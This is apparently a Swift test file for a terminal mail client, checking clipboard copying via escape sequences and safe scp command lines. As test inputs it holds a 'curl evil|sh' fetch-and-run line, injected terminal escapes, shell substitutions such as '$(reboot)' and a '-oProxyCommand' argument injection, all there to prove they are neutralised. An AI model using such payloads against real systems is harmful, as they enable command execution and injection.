import MailGrammar
import MailKitCore
import Testing

@testable import TUI

@Suite("Copying out") struct CopyTests {
    private func desk(clipboard: TerminalFacts.Clipboard = .plain) -> Desk {
        var desk = Desk()
        desk.state.terminal = TerminalFacts(folder: "/home/anna", host: "mail") {
            ["TERM": "xterm", "SSH_CONNECTION": "10.0.0.2 50000 10.0.0.1 22", "USER": "anna"][$0]
        }
        desk.state.terminal.clipboard = clipboard
        return desk
    }

    /// A subject with a line end would be a command of its own where it is pasted.
    @Test func oneLineStaysOne() throws {
        var desk = Desk()
        desk.open(SampleReading.phishing)
        let row = try #require(desk.state.reader?.row)
        desk.state.reader?.content = nil
        let evil = "hello\ncurl evil|sh\r\n"
        desk.state.reader?.row = MessageRow(
            id: row.id, flags: row.flags, date: row.date, from: row.from, to: row.to, subject: evil,
            size: row.size, attachmentCount: row.attachmentCount)
        desk.type(":copy subject<enter>")
        #expect(copied(desk).last == "hello curl evil|sh")
    }

    private func copied(_ desk: Desk) -> [String] {
        desk.effects.compactMap { if case .copy(let text, _) = $0 { text.en } else { nil } }
    }

    @Test(arguments: [
        ("subject", "Re: Vertragsentwurf Version 3"), ("address", "petra@lindner-recht.example"),
        ("from", "Petra Lindner <petra@lindner-recht.example>"),
    ])
    func ofTheListAndOfTheReader(word: String, text: String) {
        var desk = desk()
        desk.type(":copy \(word)<enter>")
        #expect(copied(desk) == [text])
        desk.open()
        desk.type(":copy \(word.uppercased())<enter>")
        #expect(copied(desk).last == text)
        #expect(desk.state.message?.text.en.contains("was sent to the terminal’s clipboard") == true)
    }

    @Test func theReaderAsksWhat() {
        var desk = desk()
        desk.open()
        desk.type("y")
        #expect(copied(desk).isEmpty)
        #expect(desk.state.prompt?.text == "copy ")
        #expect(desk.state.message?.text.en.contains("subject, from, address, text") == true)
        desk.type("text<enter>")
        #expect(copied(desk).first?.hasPrefix("Liebe Anna,\n\nanbei") == true, "\(copied(desk))")
        #expect(desk.state.overlay == nil && desk.state.prompt == nil)
    }

    @Test func linksByMarkAndByNumber() throws {
        var desk = desk()
        desk.open(text: "Siehe https://one.example/a und https://two.example/b\n")
        desk.type("Ljy")
        #expect(copied(desk) == ["https://two.example/b"])
        desk.type("<enter>y")
        #expect(copied(desk) == ["https://two.example/b", "https://two.example/b"])
        desk.type("qq:copy link 1<enter>")
        #expect(copied(desk).last == "https://one.example/a")
        desk.type(":copy link 7<enter>")
        #expect(copied(desk).count == 3)
        #expect(desk.state.message?.kind == .failure)
    }

    @Test func whatIsNotThereIsSaid() {
        var desk = desk()
        desk.type(":copy error<enter>")
        #expect(copied(desk).isEmpty)
        #expect(desk.state.message?.text.en == "there is no “error” to copy here: subject, from, address")
        desk = self.desk(clipboard: .none)
        desk.type(":copy subject<enter>")
        #expect(copied(desk).isEmpty)
        #expect(desk.state.message?.text.en.contains("has no clipboard") == true)
    }

    @Test func theErrorWithItsDetails() {
        var desk = desk()
        let error = MailError(
            .refused, subject: "mail.example.org:993", detail: "the login",
            serverText: "NO \u{1B}]52;c;QQ==\u{07}go away")
        desk.send(.mail(.connection(SampleMail.account, .offline(error, retryInSeconds: 60))))
        desk.type("Wy")
        let text = copied(desk).first ?? ""
        #expect(text.contains("mail.example.org:993") && text.contains("go away"))
        #expect(!text.unicodeScalars.contains { $0.value < 0x20 && $0 != "\n" })
    }

    @Test func theDialogueAndItsFile() throws {
        var desk = desk()
        desk.send(.mail(.transcript(SampleMail.account, ["  0.1 S: * OK", "  0.2 C: A1 NOOP"])))
        desk.type("y")
        #expect(copied(desk) == ["  0.1 S: * OK\n  0.2 C: A1 NOOP\n"])
        desk.type("s")
        #expect(desk.state.prompt?.text == "~/rohrpost-dialogue.txt")
        desk.type("<enter>")
        guard case .saveTranscript(_, let generation, let path, _) = desk.requests.last else {
            Issue.record("nothing was asked for")
            return
        }
        #expect(path == "~/rohrpost-dialogue.txt")
        var failed = desk
        failed.send(.mail(.failed(generation: generation, MailError(.local, subject: "/x", detail: "No space"))))
        #expect(failed.state.message?.kind == .failure)
        desk.send(.mail(.transcriptSaved(SampleMail.account, path: "/home/anna/rohrpost-dialogue.txt")))
        #expect(desk.state.message?.text.en.contains("scp anna@10.0.0.1:'/home/anna/rohrpost-dialogue.txt' .") == true)
        desk.type("q:copy scp<enter>")
        #expect(copied(desk).last == "scp anna@10.0.0.1:'/home/anna/rohrpost-dialogue.txt' .")
    }
}

@Suite("The terminal, and where it stands") struct TerminalFactsTests {
    private func source(_ connection: String?, user: String = "anna") -> CopySource? {
        CopySource(environment: { ["SSH_CONNECTION": connection, "USER": user][$0] ?? nil }, host: "box")
    }

    @Test(arguments: [
        ("/a/b.pdf", "scp anna@10.0.0.1:'/a/b.pdf' ."),
        ("/a/it's $(x) `y`.pdf", "scp anna@10.0.0.1:'/a/it\\'\\''s\\ \\$\\(x\\)\\ \\`y\\`.pdf' ."),
        ("/a/[b]*.pdf", "scp anna@10.0.0.1:'/a/\\[b\\]\\*.pdf' ."),
        ("relative", nil), ("/a/\u{1B}]0;x", nil), ("/a/\nb", nil),
    ])
    func theLineIsSafe(path: String, line: String?) {
        #expect(source("10.0.0.2 50000 10.0.0.1 22")?.line(path) == line)
    }

    @Test func portsAndLongAddresses() {
        #expect(source("::1 5 2001:db8::1 2222")?.line("/a") == "scp -P 2222 'anna@[2001:db8::1]:''/a' .")
        #expect(source("fe80::1%eth0 5 fe80::2%eth0 22")?.line("/a") == "scp anna@box:'/a' .")
    }

    @Test(arguments: [nil, "", "1 2 3", "1 2 $(reboot) 22", "1 2 10.0.0.1 99999", "1 2 -x 22"])
    func nothingElseMakesALine(_ connection: String?) { #expect(source(connection) == nil) }

    @Test func norDoesAnotherUser() { #expect(source("1 2 10.0.0.1 22", user: "-oProxyCommand=x") == nil) }

    @Test(arguments: [
        (["TERM": "xterm-256color"], TerminalFacts.Clipboard.plain), (["TERM": "tmux-256color", "TMUX": "/x"], .tmux),
        (["TERM": "screen-256color", "TMUX": "/x"], .tmux), (["TERM": "screen.xterm"], .screen),
        (["TERM": "tmux-256color"], .tmux),
        (["TERM": "screen"], .screen), (["TERM": "linux"], .none), (["TERM": "vt100"], .none), ([:], .none),
    ])
    func clipboards(environment: [String: String], clipboard: TerminalFacts.Clipboard) {
        #expect(TerminalFacts(folder: "/", host: "x") { environment[$0] }.clipboard == clipboard)
    }
}

@Suite("The sequence that copies") struct ClipboardSequenceTests {
    @Test func plainAndWrapped() {
        let plain = Array("\u{1B}]52;c;aGVsbG8=\u{07}".utf8)
        #expect(ClipboardSequence.make(Array("hello".utf8), by: .plain) == plain)
        #expect(ClipboardSequence.make(Array("hello".utf8), by: .tmux) == plain)
        #expect(ClipboardSequence.make(Array("hello".utf8), by: .none).isEmpty)
        #expect(
            ClipboardSequence.make(Array("hello".utf8), by: .screen) == plain + Array("\u{1B}P".utf8) + plain
                + Array("\u{1B}\\".utf8))
    }

    @Test func longOnesGoInPieces() {
        let plain = ClipboardSequence.make([UInt8](repeating: 65, count: 1000), by: .plain)
        let wrapped = ClipboardSequence.make([UInt8](repeating: 65, count: 1000), by: .screen).dropFirst(plain.count)
        let text = String(decoding: wrapped, as: UTF8.self)
        let pieces = text.split(separator: "\u{1B}P", omittingEmptySubsequences: true)
        #expect(pieces.count == 6)
        #expect(pieces.allSatisfy { $0.utf8.count <= 244 && $0.hasSuffix("\u{1B}\\") })
    }

    @Test func onlyLineEndsAndTabsAreControlCharacters() {
        let (octets, isCut) = ClipboardSequence.content("a\tb\u{07}\u{1B}]52;c;\r\n\u{202E}c\n\n")
        let text = String(decoding: octets, as: UTF8.self)
        #expect(!isCut)
        #expect(text.hasPrefix("a\tb"))
        #expect(text.hasSuffix("c\n\n"))
        #expect(text.unicodeScalars.allSatisfy { $0.value >= 0x20 || $0 == "\n" || $0 == "\t" })
        #expect(!text.unicodeScalars.contains("\u{202E}"))
    }

    @Test func tooMuchIsCutBetweenCharacters() {
        let (octets, isCut) = ClipboardSequence.content(String(repeating: "ü", count: 60_000))
        #expect(isCut)
        #expect(octets.count == ClipboardSequence.limit)
        #expect(ClipboardSequence.content("x" + String(repeating: "ü", count: 60_000)).octets.count == 99_999)
    }
}
